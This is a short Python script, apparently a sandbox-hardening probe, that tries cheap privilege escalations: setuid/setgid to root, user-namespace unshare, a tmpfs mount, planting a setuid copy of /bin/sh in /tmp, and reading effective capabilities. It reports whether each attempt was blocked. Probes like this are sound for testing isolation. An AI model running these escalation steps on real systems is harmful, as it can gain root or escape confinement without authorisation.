# ATTACK setuid-caps: every cheap way up.
import ctypes as _ctypes
import os as _os
import subprocess as _subprocess

_results = []


def _try(_name, _fn):
    try:
        _fn()
        _results.append((_name, True, "succeeded"))
    except Exception as _exc:
        _results.append((_name, False, str(_exc)[:80]))


def _libc_call(_fn, *_args):
    _libc = _ctypes.CDLL(None, use_errno=True)
    if getattr(_libc, _fn)(*_args) != 0:
        _err = _ctypes.get_errno()
        raise OSError(_err, _os.strerror(_err))


def _suid_copy():
    import shutil as _shutil
    _shutil.copy("/bin/sh", "/tmp/afr-sh")
    _os.chmod("/tmp/afr-sh", 0o4755)
    _out = _subprocess.run(["/tmp/afr-sh", "-c", "id -u"], capture_output=True, text=True).stdout.strip()
    if _out != "0":
        raise PermissionError(f"setuid copy runs as uid {_out}")


_try("setuid(0)", lambda: _os.setuid(0))
_try("setgid(0)", lambda: _os.setgid(0))
_try("unshare(CLONE_NEWUSER)", lambda: _libc_call("unshare", 0x10000000))
_try("mount tmpfs", lambda: _libc_call("mount", b"none", b"/tmp", b"tmpfs", 0, None))
_try("setuid binary", _suid_copy)
_caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
_results.append(("effective capabilities", int(_caps, 16) != 0, _caps))
if not any(ok for _, ok, _ in _results):
    raise SystemExit("ATTACK setuid-caps blocked: " + "; ".join(f"{n}: {d}" for n, _, d in _results))
print("ATTACK setuid-caps got:", [r for r in _results if r[1]])
